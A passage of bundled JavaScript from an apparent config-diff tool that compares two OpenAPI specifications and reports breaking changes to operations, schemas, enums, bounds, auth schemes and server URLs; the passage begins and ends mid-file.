  const gone3 = [...moved3.removed, ...removed2.filter((each) => !hasId(each))];
  const kept2 = [...matched, ...moved3.matched].map((pair) => compareOperation({ base, head, ...pair }));
  const own = [
    ...goneFindings(gone3, base, head),
    ...moved3.matched.map(({ before: before3, after }) => movedFinding(before3, after))
  ];
  return together([{ findings: own, schemas: [] }, ...kept2]);
}
var idOf = ({ node }) => textAt(node, "operationId") ?? "";
var hasId = (operation2) => idOf(operation2) !== "";
function goneFindings(gone3, base, head) {
  const still = new Set(operationsOf(head).map(({ template }) => shapeOfTemplate(template)));
  const had = gather(operationsOf(base), ({ template }) => template);
  const paths2 = new Map([...gather(gone3, ({ template }) => template)].toSorted(([a], [b]) => a.length - b.length));
  const isWhole = (template) => !still.has(shapeOfTemplate(template)) && paths2.get(template)?.length === had.get(template)?.length;
  const whole3 = [...paths2.keys()].filter(isWhole);
  return [...paths2].flatMap(([template, operations]) => {
    const enclosing = at(head, "paths", template) ?? at(head, "paths") ?? head;
    const [first] = operations;
    if (!isWhole(template) || first === void 0)
      return operations.map((each) => goneFinding("operation-removed", each.title, each, enclosing));
    const highest = whole3.find((other) => template.startsWith(`${other}/`)) ?? template;
    const ids = (paths2.get(highest) ?? []).map(idOf).join(" ");
    const isDeprecated = operations.every(({ node }) => isTrue2(node, "deprecated"));
    return {
      ...goneFinding("path-removed", template, first.item, enclosing),
      cause: ids.trim() || highest,
      ...isDeprecated ? { isDeprecated } : {}
    };
  });
}
var goneFinding = (what, operation2, { node, path: path27 }, after) => ({ what, operation: operation2, element: "", path: path27, before: node, after, ...announced({ node }) });
function movedFinding(before3, after) {
  return {
    what: "operation-moved",
    operation: before3.title,
    element: "",
    path: before3.path,
    before: before3.node,
    after: after.node,
    from: before3.title,
    to: after.title,
    cause: differenceOf(before3.title, after.title)
  };
}
function differenceOf(a, b) {
  const shorter = Math.min(a.length, b.length);
  let start = 0;
  while (start < shorter && a[start] === b[start]) start++;
  let end = 0;
  while (end < shorter - start && a.at(-1 - end) === b.at(-1 - end)) end++;
  return `${a.slice(start, a.length - end)}->${b.slice(start, b.length - end)}`;
}
var compareOperation = (pair) => together([compareSelf(pair), compareParameters(pair), compareBodies(pair), compareResponses(pair)]);
function compareSelf({ before: before3, after }) {
  const [from3, to] = [idOf(before3), idOf(after)];
  const renamed2 = from3 !== "" && to !== "" && from3 !== to;
  return {
    findings: [...renamed2 ? [renaming(before3, after)] : [], ...newlyDeprecated(before3, after, after.title, "")],
    schemas: []
  };
}
var renaming = (before3, after) => ({
  what: "operation-id-changed",
  operation: after.title,
  element: "",
  from: idOf(before3),
  to: idOf(after),
  path: [...after.path, "operationId"],
  before: at(before3.node, "operationId"),
  after: at(after.node, "operationId"),
  cause: differenceOf(idOf(before3), idOf(after))
});

// src/domains/config/openapi/folded.ts
var OF_PARTS = /* @__PURE__ */ new Set([
  "bound-loosened",
  "bound-slight",
  "bound-tightened",
  "default-changed",
  "deprecated",
  "enum-added",
  "enum-narrowed",
  "enum-widened",
  "format-changed",
  "null-refused",
  "null-returned",
  "parameter-added-required",
  "parameter-became-required",
  "parameter-removed",
  "pattern-changed",
  "properties-closed",
  "property-added-required",
  "property-became-optional",
  "property-became-required",
  "property-removed",
  "property-renamed",
  "type-changed",
  "variant-added",
  "variant-removed"
]);
function wholeOf(finding) {
  const { what, direction, operation: operation2, element, isDeprecated, isOfKubernetes: isOfKubernetes2 } = finding;
  if (!OF_PARTS.has(what) || element === "") return finding;
  return isOfKubernetes2 ? `${what} Kubernetes` : `${what} ${direction} ${operation2} ${isDeprecated === true}`;
}
function folded3(findings) {
  const groups2 = gather(withoutBodies(findings), wholeOf);
  return [...groups2.values()].flatMap(([first, ...more2]) => {
    if (first === void 0 || more2.length === 0) return first ?? [];
    const causes = [...new Set([first, ...more2].map(({ cause, element }) => cause ?? element))].toSorted();
    return [{ ...first, cause: causes.join(" "), others: more2.length }];
  });
}
function withoutBodies(findings) {
  const asking2 = new Set(
    findings.flatMap(({ what, element, operation: operation2 }) => ASKS2.has(what) && !element.includes(".") ? [operation2] : [])
  );
  return findings.filter(({ what, operation: operation2 }) => what !== "body-became-required" || !asking2.has(operation2));
}
var ASKS2 = /* @__PURE__ */ new Set(["property-added-required", "property-became-required"]);
var BY_VALUES = /* @__PURE__ */ new Set([
  "enum-added",
  "enum-narrowed",
  "enum-widened",
  "pattern-changed",
  "status-replaced"
]);
var WHATEVER_VALUES = /* @__PURE__ */ new Set([
  "bound-tightened",
  "bound-loosened",
  "operation-id-changed",
  "operation-moved",
  "properties-closed"
]);
function groupOf3(cause, finding) {
  const { what, from: from3, to, isOfKubernetes: isOfKubernetes2 } = finding;
  if (isOfKubernetes2) return `${what} Kubernetes`;
  if (what === "properties-closed") return what;
  const values3 = [from3, to].filter((value) => value !== void 0).join("->");
  if (BY_VALUES.has(what)) return `${what} ${values3}`;
  return `${cause}: ${[what, WHATEVER_VALUES.has(what) ? "" : values3].filter(Boolean).join(" ")}`;
}

// src/domains/config/openapi/kubernetes-types.ts
var QUALIFIED = /^(?:io\.k8s|k8s\.io)\.(?:api|apimachinery|apiextensions-apiserver|kube-aggregator)\./;
var NAMES = [
  "AppArmorProfile",
  "ConfigMap(?:EnvSource|KeySelector|Projection)",
  "ContainerResizePolicy",
  "DownwardAPI(?:Projection|VolumeFile)",
  "Env(?:FromSource|VarSource)",
  "HostAlias",
  "LabelSelector(?:Requirement)?",
  "LifecycleHandler",
  "LocalObjectReference",
  "ManagedFieldsEntry",
  "Node(?:Affinity|Selector(?:Requirement|Term)?)",
  "Object(?:FieldSelector|Meta)",
  "OwnerReference",
  "PersistentVolume(?:Claim)?(?:Condition|Spec|Status|Template)?",
  "Pod(?:Anti)?Affinity(?:Term)?",
  "Pod(?:DisruptionBudgetSpec|DNSConfig(?:Option)?|SecurityContext|Spec|TemplateSpec)",
  "PreferredSchedulingTerm",
  "Resource(?:FieldSelector|Requirements)",
  "SELinuxOptions",
  "SeccompProfile",
  "Secret(?:EnvSource|KeySelector|Projection)",
  "ServiceAccountTokenProjection",
  "TopologySpreadConstraint",
  "Typed(?:Local)?ObjectReference",
  "Volume(?:Device|Mount|Projection|ResourceRequirements)",
  "WeightedPodAffinityTerm",
  "WindowsSecurityContextOptions",
  String.raw`\w+VolumeSource`
];
var PLAIN2 = new RegExp(String.raw`^(?:v\d(?:(?:alpha|beta)\d)?\.?)?(?:${NAMES.join("|")})$`);
var isOfKubernetes = (definition2 = "") => QUALIFIED.test(definition2) || PLAIN2.test(definition2);

// src/domains/config/openapi/schema.ts
var MOST_PARTS = 200;
function schemaOf2(api2, start) {
  const site = resolve(api2, start);
  const parts = /* @__PURE__ */ new Map();
  const waiting = [site, ...(start.joined ?? []).map((part) => resolve(api2, part))];
  for (let next = waiting.shift(); next !== void 0 && parts.size < MOST_PARTS; next = waiting.shift()) {
    if (parts.has(next.node)) continue;
    parts.set(next.node, next);
    waiting.push(...joinedBy(next).map((part) => resolve(api2, part)));
  }
  return { parts: [...parts.values()], site };
}
function joinedBy(site) {
  const only = variantNodes(site.node).length === 1 ? variantNodes(site.node) : [];
  return [...itemsAt(site.node, "allOf"), ...only].map((node) => ({ ...site, node }));
}
var alternatives = (node) => [
  ...itemsAt(node, "oneOf"),
  ...itemsAt(node, "anyOf")
];
var isNull = (node) => textAt(node, "type") === "null";
var variantNodes = (node) => alternatives(node).filter((each) => !isNull(each));
var namedVariants = ({ parts }) => new Map(
  parts.flatMap((part) => {
    const nodes = variantNodes(part.node);
    return nodes.flatMap((node) => {
      const name = textAt(node, "$ref")?.replace(/^.*\//, "");
      return name === void 0 || nodes.length === 1 ? [] : [[name, { ...part, node }]];
    });
  })
);
function optionsOf(schema) {
  const { parts, site } = schema;
  const nodes = parts.flatMap(({ node }) => variantNodes(node));
  if (nodes.length > 0) return nodes.map(optionOf);
  if (site.definition !== void 0 && site.path.at(-1) === site.definition) return [definitionOption(site.definition)];
  return typesOf(schema).length === 0 ? [] : [optionOf(site.node)];
}
function optionOf(node) {
  const name = textAt(node, "$ref")?.replace(/^.*\//, "");
  const label2 = textAt(node, "title") ?? textAt(node, "type") ?? "object";
  return name === void 0 ? { label: label2, isNamed: false, identity: signature(node) } : definitionOption(name);
}
var definitionOption = (name) => ({ label: name, isNamed: true, identity: name });
function typesOf(schema) {
  const named4 = [...new Set(schema.parts.flatMap(({ node }) => textsOf(at(node, "type"))))];
  if (named4.length > 0) return named4.filter((type) => type !== "null");
  if (propertiesOf(schema).size > 0) return ["object"];
  return find(schema, "items") === void 0 ? [] : ["array"];
}
var isNullable = ({ parts }) => parts.some(
  ({ node }) => isTrue2(node, "nullable") || isTrue2(node, "x-nullable") || textsOf(at(node, "type")).includes("null") || alternatives(node).some(isNull)
);
function propertiesOf({ parts }) {
  const found = /* @__PURE__ */ new Map();
  for (const part of parts)
    for (const [name, node] of entriesOf(at(part.node, "properties"))) {
      const { joined: _joined, ...owner } = part;
      const site = { ...owner, node, path: [...part.path, "properties", name] };
      const known2 = found.get(name);
      found.set(name, known2 === void 0 ? site : { ...site, joined: [known2, ...known2.joined ?? []] });
    }
  return found;
}
var requiredOf = ({ parts }) => new Set(parts.flatMap(({ node }) => textsOf(at(node, "required"))));
var find = ({ parts }, keyword) => parts.map(({ node }) => at(node, keyword)).find((node) => node !== void 0);
var textOf = (schema, keyword) => textsOf(find(schema, keyword))[0];
function valuesOf4(schema) {
  const only = find(schema, "const");
  const list = find(schema, "enum");
  return list === void 0 ? only && textsOf(only) : textsOf(list);
}
var says = ({ parts }, mark2) => parts.some(({ node }) => isTrue2(node, mark2));

// src/domains/config/openapi/schema-break.ts
var narrowerAndWider = ({ before: before3, after, direction }) => direction === "request" ? { narrower: before3, wider: after } : { narrower: after, wider: before3 };

// src/domains/config/openapi/schema-properties.ts
var propertiesRemoved = ({ before: before3, after, direction }) => {
  const [had, has2] = [propertiesOf(before3), propertiesOf(after)];
  const required = requiredOf(before3);
  const oneWay = direction === "request" ? "readOnly" : "writeOnly";
  const removed2 = [...had].filter(([name, { node }]) => !has2.has(name) && !isTrue2(node, oneWay));
  if (removed2.length === 0 || has2.size === 0 && typesOf(after).join() !== "object") return [];
  const renamed2 = new Map([...renamesOf(removed2, had, has2)].map(([to, from3]) => [from3, to]));
  return removed2.map(([name, { node }]) => {
    const to = renamed2.get(name);
    const enclosing = find(after, "properties") ?? after.site.node;
    if (to !== void 0)
      return { what: "property-renamed", property: name, to, before: node, after: has2.get(to)?.node ?? enclosing };
    return {
      what: "property-removed",
      property: name,
      before: node,
      after: enclosing,
      ...isTrue2(node, "deprecated") ? { isDeprecated: true } : {},
      ...required.has(name) ? { isRequired: true } : {}
    };
  });
};
function renamesOf(removed2, had, has2) {
  const added2 = [...has2].filter(([name]) => !had.has(name));
  return matchRenames(removed2.map(entry), added2.map(entry));
}
var removedFrom = (had, has2) => [...had].filter(([name]) => !has2.has(name));
var entry = ([name, { node }]) => [name, node];
var propertiesRequired = ({ before: before3, after }) => {
  const [had, has2, required] = [propertiesOf(before3), propertiesOf(after), requiredOf(before3)];
  const fresh = [...requiredOf(after)].filter((property) => !required.has(property));
  const renamed2 = fresh.length === 0 ? /* @__PURE__ */ new Map() : renamesOf(removedFrom(had, has2), had, has2);
  return fresh.flatMap((property) => {
    const node = has2.get(property)?.node;
    if (node === void 0 || renamed2.has(property)) return [];
    if (at(node, "default") !== void 0 || isTrue2(node, "readOnly")) return [];
    const old = had.get(property)?.node;
    const what = old === void 0 ? "property-added-required" : "property-became-required";
    return [{ what, property, before: old ?? before3.site.node, after: node }];
  });
};
var propertiesOptional = ({ before: before3, after }) => {
  const [had, has2, required] = [propertiesOf(before3), propertiesOf(after), requiredOf(after)];
  return [...requiredOf(before3)].flatMap((property) => {
    const [old, now] = [had.get(property)?.node, has2.get(property)?.node];
    if (required.has(property) || old === void 0 || now === void 0 || isTrue2(old, "writeOnly")) return [];
    return [{ what: "property-became-optional", property, before: old, after: now }];
  });
};
var isClosed = (node) => node?.kind === "scalar" && node.value === false;
var propertiesClosed = ({ before: before3, after }) => {
  const [old, now] = [find(before3, "additionalProperties"), find(after, "additionalProperties")];
  return !isClosed(old) && isClosed(now) ? [{ what: "properties-closed", before: old, after: now }] : [];
};

// src/domains/config/openapi/schema-values.ts
var typeChanged2 = (both2) => {
  const { narrower, wider } = narrowerAndWider(both2);
  const [some, all] = [typesOf(narrower), new Set(typesOf(wider))];
  if (some.length === 0 || all.size === 0) return [];
  if (some.every((type) => all.has(type) || type === "integer" && all.has("number"))) return [];
  const [from3, to] = [typesOf(both2.before).join(" or "), typesOf(both2.after).join(" or ")];
  return [{ what: "type-changed", from: from3, to, before: find(both2.before, "type"), after: find(both2.after, "type") }];
};
var WIDER_FORMATS = /* @__PURE__ */ new Map([
  ["int32", "int64"],
  ["float", "double"]
]);
var formatChanged2 = (both2) => {
  const { narrower, wider } = narrowerAndWider(both2);
  const [some, all] = [textOf(narrower, "format"), textOf(wider, "format")];
  if (some === void 0 || all === void 0 || some === all || WIDER_FORMATS.get(some) === all) return [];
  const [from3, to] = [textOf(both2.before, "format"), textOf(both2.after, "format")];
  return [{ what: "format-changed", from: from3, to, before: find(both2.before, "format"), after: find(both2.after, "format") }];
};
var enumNarrowed2 = ({ before: before3, after }) => {
  const [had, has2] = [valuesOf4(before3), valuesOf4(after)];
  if (has2 === void 0) return [];
  const nodes = { before: find(before3, "enum"), after: find(after, "enum") ?? find(after, "const") };
  if (had === void 0) return [{ what: "enum-added", to: has2.join(", "), ...nodes }];
  const kept2 = new Set(has2);
  const lost = had.filter((value) => !kept2.has(value));
  return lost.length === 0 ? [] : [{ what: "enum-narrowed", from: lost.join(", "), ...nodes }];
};
var enumWidened2 = ({ before: before3, after }) => {
  const [had, has2] = [valuesOf4(before3), valuesOf4(after)];
  if (had === void 0 || has2 === void 0) return [];
  const known2 = new Set(had);
  const fresh = has2.filter((value) => !known2.has(value));
  const nodes = { before: find(before3, "enum"), after: find(after, "enum") };
  return fresh.length === 0 ? [] : [{ what: "enum-widened", to: fresh.join(", "), ...nodes }];
};
var boundTightened = (keyword, sign) => ({ before: before3, after }) => {
  const [from3, to] = [textOf(before3, keyword), textOf(after, keyword)];
  if (to === void 0 || Number.isNaN(Number(to)) || sayNothing(keyword, to)) return [];
  if (from3 !== void 0 && sign * (Number(to) - Number(from3)) <= 0) return [];
  const said8 = { from: from3 === void 0 ? void 0 : `${keyword}: ${from3}`, to: `${keyword}: ${to}` };
  const what = from3 === void 0 && isSlight(keyword, to) ? "bound-slight" : "bound-tightened";
  return [{ what, ...said8, before: find(before3, keyword), after: find(after, keyword) }];
};
var isSlight = (keyword, bound) => keyword.startsWith("min") && Number(bound) <= 1;
var boundLoosened = (keyword, sign) => ({ before: before3, after }) => {
  const [from3, to] = [textOf(before3, keyword), textOf(after, keyword)];
  if (from3 === void 0 || to === void 0 || !(sign * (Number(to) - Number(from3)) < 0)) return [];
  const said8 = { from: `${keyword}: ${from3}`, to: `${keyword}: ${to}` };
  return [{ what: "bound-loosened", ...said8, before: find(before3, keyword), after: find(after, keyword) }];
};
var sayNothing = (keyword, bound) => /^min[A-Z]/.test(keyword) && bound === "0";
var patternChanged = ({ before: before3, after }) => {
  const [from3, to] = [textOf(before3, "pattern"), textOf(after, "pattern")];
  if (to === void 0 || from3 === to) return [];
  return [{ what: "pattern-changed", from: from3, to, before: find(before3, "pattern"), after: find(after, "pattern") }];
};
var nullChanged = (both2) => {
  const { narrower, wider } = narrowerAndWider(both2);
  if (typesOf(narrower).length === 0 || typesOf(wider).length === 0) return [];
  if (!isNullable(narrower) || isNullable(wider)) return [];
  return [{ what: both2.direction === "request" ? "null-refused" : "null-returned" }];
};
var defaultChanged2 = ({ before: before3, after }) => {
  const [from3, to] = [textOf(before3, "default"), textOf(after, "default")];
  if (from3 === void 0 || to === void 0 || isSameAmount(from3, to)) return [];
  return [{ what: "default-changed", from: from3, to, before: find(before3, "default"), after: find(after, "default") }];
};

// src/domains/config/openapi/schema-breaks.ts
var forData = (direction, check) => (both2) => both2.direction === direction ? check(both2) : [];
var deprecated = ({ before: before3, after }) => {
  const isNew = says(after, "deprecated") && !says(before3, "deprecated");
  return isNew ? [{ what: "deprecated", after: find(after, "deprecated") }] : [];
};
var variantsChanged = (both2) => {
  const { narrower, wider } = narrowerAndWider(both2);
  const [some, all] = [optionsOf(narrower), optionsOf(wider)];
  if (some.length === 0 || all.length === 0 || some.length + all.length === 2) return [];
  const lost = [...beyond(some, all, true), ...beyond(some, all, false)].map(({ label: label2 }) => label2);
  if (lost.length === 0) return [];
  const nodes = {
    before: find(both2.before, "oneOf") ?? find(both2.before, "anyOf"),
    after: find(both2.after, "oneOf") ?? find(both2.after, "anyOf")
  };
  return both2.direction === "request" ? [{ what: "variant-removed", from: lost.join(", "), ...nodes }] : [{ what: "variant-added", to: lost.join(", "), ...nodes }];
};
function beyond(some, all, isNamed2) {
  const missing2 = (from3, known2) => {
    const identities = new Set(known2.map(({ identity }) => identity));
    return from3.filter((each) => each.isNamed === isNamed2 && !identities.has(each.identity));
  };
  return missing2(some, all).slice(isNamed2 ? 0 : missing2(all, some).length);
}
var CHECKS3 = [
  formatChanged2,
  nullChanged,
  propertiesRemoved,
  variantsChanged,
  deprecated,
  forData("request", enumNarrowed2),
  forData("response", enumWidened2),
  ...["minimum", "exclusiveMinimum", "minLength", "minItems", "minProperties"].map(
    (keyword) => forData("request", boundTightened(keyword, 1))
  ),
  ...["maximum", "exclusiveMaximum", "maxLength", "maxItems", "maxProperties"].map(
    (keyword) => forData("request", boundTightened(keyword, -1))
  ),
  ...["minimum", "minLength", "minItems"].map((keyword) => forData("response", boundLoosened(keyword, 1))),
  ...["maximum", "maxLength", "maxItems"].map((keyword) => forData("response", boundLoosened(keyword, -1))),
  forData("request", patternChanged),
  forData("request", defaultChanged2),
  forData("request", propertiesRequired),
  forData("request", propertiesClosed),
  forData("response", propertiesOptional)
];

// src/domains/config/openapi/compare-schemas.ts
var MOST_PAIRS2 = 2e5;
function compareSchemas2(base, head, pairs) {
  const seen = { request: /* @__PURE__ */ new Map(), response: /* @__PURE__ */ new Map() };
  const waiting = pairs.toReversed();
  const breaks = [];
  let compared = 0;
  for (let pair = waiting.pop(); pair !== void 0; pair = waiting.pop()) {
    const before3 = schemaOf2(base, pair.before);
    const after = schemaOf2(head, pair.after);
    const met = seen[pair.direction].get(before3.site.node) ?? /* @__PURE__ */ new Set();
    if (met.has(after.site.node)) continue;
    seen[pair.direction].set(before3.site.node, met.add(after.site.node));
    if (++compared > MOST_PAIRS2) throw new Unreadable("its schemas refer to each other in too many ways");
    const known2 = {
      ...pair,
      before: before3.site,
      after: after.site,
      element: elementOf(pair, after.site),
      ...mark(before3, after)
    };
    const both2 = { before: before3, after, direction: pair.direction };
    breaks.push(...breaksOf(both2).map((found) => ({ pair: told(found, pair, known2), found })));
    waiting.push(...children(known2, both2).toReversed());
  }
  return breaks;
}
function breaksOf(both2) {
  const retyped2 = typeChanged2(both2);
  return retyped2.length > 0 ? retyped2 : CHECKS3.flatMap((check) => check(both2));
}
var mark = (before3, after) => isOfKubernetes(before3.site.definition) && isOfKubernetes(after.site.definition) ? { isOfKubernetes: true } : {};
var told = ({ to }, { element }, known2) => to === known2.element ? { ...known2, element } : known2;
var elementOf = ({ element, after }, site) => site.path === after.path ? element : site.definition ?? element;
function children(pair, both2) {
  const now = propertiesOf(both2.after);
  const properties = [...propertiesOf(both2.before)].flatMap(([name, before3]) => {
    const after = now.get(name);
    return after === void 0 ? [] : [{ ...pair, before: before3, after, element: join2(pair.element, name) }];
  });
  return [
    ...properties,
    ...below3(pair, both2, "items", `${pair.element}[]`),
    ...below3(pair, both2, "additionalProperties", join2(pair.element, "*")),
    ...alternatives2(pair, both2)
  ];
}
var join2 = (element, name) => element === "" ? name : `${element}.${name}`;
function below3(pair, both2, keyword, element) {
  const [before3, after] = [siteAt2(both2.before, keyword), siteAt2(both2.after, keyword)];
  return before3 && after ? [{ ...pair, before: before3, after, element }] : [];
}
function siteAt2(schema, keyword) {
  const node = find(schema, keyword);
  return node?.kind === "map" ? { ...schema.site, node, path: [...schema.site.path, keyword] } : void 0;
}
function alternatives2(pair, both2) {
  const now = namedVariants(both2.after);
  return [...namedVariants(both2.before)].flatMap(([element, before3]) => {
    const after = now.get(element);
    return after === void 0 ? [] : [{ ...pair, before: before3, after, element }];
  });
}

// src/domains/config/openapi/security.ts
var compareSecurity = (base, head) => [
  ...compare(
    operationsOf(base),
    operationsOf(head),
    ({ method: method2, template }) => `${method2} ${shapeOfTemplate(template)}`
  ).matched.flatMap(({ before: before3, after }) => operationFindings(base, head, before3, after)),
  ...compare(schemesOf(base), schemesOf(head), ([name]) => name).matched.flatMap(
    ({ before: before3, after }) => schemeFindings(before3, after)
  ),
  ...serverFindings(base, head)
];
function operationFindings(base, head, before3, after) {
  const [old, now] = [effective2(base, before3), effective2(head, after)];
  const what = judged(old, now, base, head);
  if (what === void 0) return [];
  const path27 = now.isShared ? ["security"] : [...after.path, "security"];
  const [from3, to] = [shown(old), shown(now)];
  return [
    {
      what,
      operation: after.title,
      element: "",
      from: from3,
      to,
      path: path27,
      before: old.node,
      after: now.node,
      cause: `${from3}->${to}`
    }
  ];
}
function judged(old, now, base, head) {
  if (isOpen3(now)) return isOpen3(old) ? void 0 : "security-removed";
  if (isOpen3(old)) return "security-required";
  if (shown(old) === shown(now)) return void 0;
  const isWeaker = now.alternatives.some((each) => old.alternatives.some((had) => asksLess(each, had)));
  if (isWeaker || weakest(now, head) < weakest(old, base)) return "security-weakened";
  const isRefused2 = old.alternatives.some((had) => !now.alternatives.some((each) => isMetBy(each, had)));
  return isRefused2 ? "security-tightened" : void 0;
}
var isOpen3 = ({ alternatives: alternatives3 }) => alternatives3.length === 0 || alternatives3.some(({ size: size2 }) => size2 === 0);
function effective2(api2, { node }) {
  const own = at(node, "security");
  const whole3 = at(api2, "security");
  const list = own ?? whole3;
  const items = list?.kind === "list" ? list.items : [];
  const alternatives3 = items.map(
    (item) => new Map(entriesOf(item).map(([scheme2, scopes]) => [scheme2, new Set(textsOf(scopes))]))
  );
  return { alternatives: alternatives3, node: list ?? node, isShared: own === void 0 && whole3 !== void 0 };
}
var isMetBy = (each, had) => [...each].every(([scheme2, scopes]) => [...scopes].every((scope) => had.get(scheme2)?.has(scope)) && had.has(scheme2));
var asksLess = (each, had) => isMetBy(each, had) && !isMetBy(had, each);
var shown = ({ alternatives: alternatives3 }) => alternatives3.map(
  (each) => [...each].map(([scheme2, scopes]) => [scheme2, ...[...scopes].toSorted()].join(" ")).toSorted().join(" and ") || "nobody"
).toSorted().join(" or ") || "nothing";
var weakest = ({ alternatives: alternatives3 }, api2) => {
  const schemes = new Map(schemesOf(api2));
  return Math.min(
    ...alternatives3.map((each) => Math.max(0, ...[...each.keys()].map((name) => strengthOf(schemes.get(name)))))
  );
};
var schemesOf = (api2) => [
  ...entriesBelow(api2, { node: at(api2, "components") ?? api2, path: ["components"] }, "securitySchemes"),
  ...entriesBelow(api2, { node: api2, path: [] }, "securityDefinitions")
];
var STRENGTH = /* @__PURE__ */ new Map([
  ["basic", 0],
  ["http basic", 0],
  ["apiKey", 1],
  ["http digest", 1],
  ["http bearer", 2],
  ["oauth2", 3],
  ["openIdConnect", 3],
  ["mutualTLS", 3]
]);
var kindOf2 = ({ node }) => [textAt(node, "type"), textAt(node, "scheme")?.toLowerCase()].filter(Boolean).join(" ");
var strengthOf = (scheme2) => (scheme2 && STRENGTH.get(kindOf2(scheme2))) ?? 3;
function schemeFindings([name, old], [, now]) {
  const common = { operation: "the API", element: name, path: now.path, before: old.node, after: now.node };
  const [from3, to] = [kindOf2(old), kindOf2(now)];
  if (from3 !== to)
    return [{ what: strengthOf(now) < strengthOf(old) ? "scheme-weakened" : "scheme-changed", ...common, from: from3, to }];
  if (textAt(old.node, "in") !== "query" && textAt(now.node, "in") === "query")
    return [{ what: "credentials-exposed", ...common, to: "the query" }];
  const had = new Set(flowsOf(old));
  const [flow] = flowsOf(now).filter((each) => LEAKY_FLOWS.has(each) && !had.has(each));
  return flow === void 0 ? [] : [{ what: "credentials-exposed", ...common, to: `the ${flow} flow` }];
}
var LEAKY_FLOWS = /* @__PURE__ */ new Set(["implicit", "password"]);
var flowsOf = ({ node }) => [
  ...entriesOf(at(node, "flows")).map(([flow]) => flow),
  ...textsOf(at(node, "flow"))
];
function serverFindings(base, head) {
  const old = new Map(serversOf(base));
  const encrypted = [...old.keys()].filter((url2) => url2.startsWith("https:"));
  return serversOf(head).flatMap(([url2, node]) => {
    if (!/^http:\/\/(?!localhost|127\.|\[::1\]|[^/:]*\.(?:local|internal|svc)\b)/.test(url2) || old.has(url2)) return [];
    const from3 = encrypted.find((each) => each.slice("https".length) === url2.slice("http".length)) ?? encrypted[0];
    if (from3 === void 0) return [];
    return [
      {
        what: "server-plain",
        operation: "the API",
        element: "",
        from: from3,
        to: url2,
        path: ["servers"],
        before: old.get(from3),
        after: node
      }
    ];
  });
}
function serversOf(api2) {
  const servers = at(api2, "servers");
  const listed6 = servers?.kind === "list" ? servers.items : [];
  const schemes = at(api2, "schemes");
  const address = `${textAt(api2, "host") ?? ""}${textAt(api2, "basePath") ?? ""}`;
  return [
    ...listed6.map((server2) => [textAt(server2, "url") ?? "", at(server2, "url") ?? server2]),
    ...schemes === void 0 ? [] : textsOf(schemes).map((scheme2) => [`${scheme2}://${address}`, schemes])
  ];
}

// src/domains/config/openapi/facts.ts
function apiFacts(pair) {
  const { before: before3, after } = pair;
  if (before3 === void 0 || after === void 0 || before3.isTemplate || after.isTemplate) return [];
  const { findings, schemas } = compareOperations(before3.root, after.root);
  try {
    const breaks = compareSchemas2(before3.root, after.root, schemas).map(findingOf);
    const found = distinct([...findings, ...breaks, ...compareSecurity(before3.root, after.root)]);
    return folded3(found).map((finding) => factOf3(pair, finding));
  } catch (error) {
    if (!(error instanceof Unreadable)) throw error;
    const place2 = { path: after.path, line: error.line };
    return [
      {
        kind: "file-unreadable",
        subject: after.path,
        side: "head",
        reason: error.message,
        bothSides: false,
        after: place2
      }
    ];
  }
}
function findingOf({ pair, found }) {
  const { property, before: before3 = pair.before.node, after = pair.after.node, what, from: from3, to } = found;
  const element = [pair.element, property].filter(Boolean).join(".");
  return {
    what,
    operation: pair.operation,
    element,
    direction: pair.direction,
    path: property === void 0 ? pair.after.path : [...pair.after.path, "properties", property],
    before: before3,
    after,
    cause: property ?? pair.element.replace(/^.*\./, ""),
    ...from3 === void 0 ? {} : { from: from3 },
    ...to === void 0 ? {} : { to },
    ...marksOf(pair, found)
  };
}
var marksOf = ({ isOfKubernetes: isOfKubernetes2 }, { isDeprecated, isRequired }) => ({
  ...isOfKubernetes2 ? { isOfKubernetes: isOfKubernetes2 } : {},
  ...isDeprecated ? { isDeprecated } : {},
  ...isRequired ? { isRequired } : {}
});
function distinct(findings) {
  const known2 = /* @__PURE__ */ new Map();
  for (const finding of findings) {
    const { what, before: before3, after, from: from3, to } = finding;
    const places = [before3, after].map((node) => [originOf(node)?.path, node?.line]);
    const edit = JSON.stringify([what, places, from3, to, finding.cause]);
    if (!known2.has(edit) || finding.direction === "response") known2.set(edit, finding);
  }
  return [...known2.values()];
}
function placedIn(pair, before3, after) {
  const [old, now] = [originOf(before3)?.path, originOf(after)?.path];
  return {
    ...pair,
    before: pair.before && { ...pair.before, path: old ?? pair.before.path },
    after: pair.after && { ...pair.after, path: now ?? pair.after.path }
  };
}
function factOf3(pair, { path: path27, before: before3, after, cause, ...said8 }) {
  const values3 = [said8.from, said8.to].filter((value) => value !== void 0).join("->");
  const told5 = [said8.what, values3].filter(Boolean).join(" ");
  const where = factAt(placedIn(pair, before3, after), path27.map(key), told5, { before: before3, after });
  const group4 = cause === void 0 ? {} : { group: groupOf3(cause, said8) };
  return { kind: "api-changed", ...where, ...said8, ...group4 };
}

// src/domains/config/dialects/openapi.ts
var openapi_default = {
  name: "openapi",
  recognises: isOpenApi,
  isSchema: (keys) => SCHEMAS.has(keys.at(-1) ?? ""),
  owns: ({ keys }) => DESCRIBED.has(keys[0] ?? ""),
  facts: (pairs) => pairs.flatMap(apiFacts)
};
var SCHEMAS = /* @__PURE__ */ new Set(["definitions", "example", "examples", "schema", "schemas"]);
var DESCRIBED = /* @__PURE__ */ new Set([
  "components",
  "definitions",
  "parameters",
  "paths",
  "responses",
  "schemes",
  "security",
  "securityDefinitions",
  "servers"
]);

// src/domains/config/serverless/model.ts
var isService = ({ path: path27, root }) => at(root, "provider") !== void 0 && (/(?:^|\/)serverless\.(?:ya?ml|json)$/.test(path27) || textAt(root, "service") !== void 0 && textAt(root, "provider", "name") !== void 0);
var STATEMENTS = [
  ["provider", "iamRoleStatements"],
  ["provider", "iam", "role", "statements"]
];
function statementFacts(pair) {
  const [before3, after] = [pair.before, pair.after].map(
    (document) => STATEMENTS.map((path28) => at(document?.root, ...path28)).find((node) => node !== void 0)
  );
  const path27 = STATEMENTS.find((each) => at((pair.after ?? pair.before)?.root, ...each) !== void 0) ?? [];
  return comparePolicies(pair, { name: "provider", path: path27 }, asPolicy(before3), asPolicy(after));
}
var asPolicy = (list) => list && { ...list, kind: "map", entries: /* @__PURE__ */ new Map([["Statement", list]]) };
var inFunction = (...tail2) => ({ keys }) => {
  const own = keys[0] === "functions" ? keys.slice(2) : keys[0] === "provider" ? keys.slice(1) : [];
  return own.length === tail2.length && tail2.every((name, i) => own[i] === name);
};
var inEvent = (...tail2) => ({ keys }) => keys[0] === "functions" && keys[2] === "events" && ["http", "httpApi"].includes(keys[3] ?? "") && keys.length === 4 + tail2.length && tail2.every((name, i) => keys[4 + i] === name);

// src/domains/config/dialects/serverless.ts
var serverless_default = {
